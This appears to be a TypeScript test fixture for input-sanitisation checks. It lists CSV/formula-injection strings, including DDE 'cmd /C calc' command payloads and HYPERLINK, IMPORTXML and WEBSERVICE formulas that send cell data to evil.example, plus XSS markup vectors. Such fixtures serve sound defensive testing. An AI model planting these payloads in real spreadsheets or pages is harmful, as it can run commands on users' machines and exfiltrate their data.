/**
 * Texts that a spreadsheet takes for a formula when they are typed, pasted or imported, also behind white space and in
 * full width: https://owasp.org/www-community/attacks/CSV_Injection and the public lists built on it
 * (https://github.com/payloadbox/csv-injection-payloads).
 */
export const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1+1)',
  '"=1+1"',
  "'=1+1",
  '";=1+1',
  ',=1+1',
  '\n\n=1+1,',
  '=1+1";=1+1',
  "=1+cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!'A1'",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '=HYPERLINK(CONCATENATE("https://evil.example/?x=",A2:E2),"Error")',
  '=IMPORTXML("https://evil.example/"&A2,"//a")',
  '=IMPORTHTML("https://evil.example/"&A2,"table",1)',
  '=IMPORTDATA("https://evil.example/"&A2)',
  '=IMPORTFEED("https://evil.example/"&A2)',
  '=IMPORTRANGE("https://evil.example/","Sheet1!A2")',
  '=IMAGE("https://evil.example/?x="&A2)',
  '=WEBSERVICE("https://evil.example/?x="&A2)',
  '=ECORE_EMAIL("somebody@else.example")',
  '{=1+1}',
  '=1+1@evil.example',
  "=cmd|'/C'!A0@evil.example",
  '+1+1@evil.example',
  '-1+1@evil.example',
  '@1@evil.example',
  "'1@evil.example",
  '\uff1d1@evil.example',
  '\t=1+1@evil.example',
];

/** Texts that typing turns into something other than text. */
export const NUMBERS_AND_DATES = ['1', '0123', '1e5', '1/2', 'Mar 1', '2026-01-01', '10%', '$5', 'TRUE', '1,000', '12:30', '#REF!', ''];

/** Markup that runs or shows where it is taken for HTML. */
export const MARKUP = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg/onload=window.pwned=1>',
  '"><img src=x onerror=window.pwned=1>',
  "'><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  '</option></select><img src=x onerror=window.pwned=1>',
  '<a href="javascript:window.pwned=1">a</a>',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '${window.pwned=1}{{window.pwned=1}}<?= window.pwned ?>',
  '<style>*{display:none}</style><b>bold</b>',
];
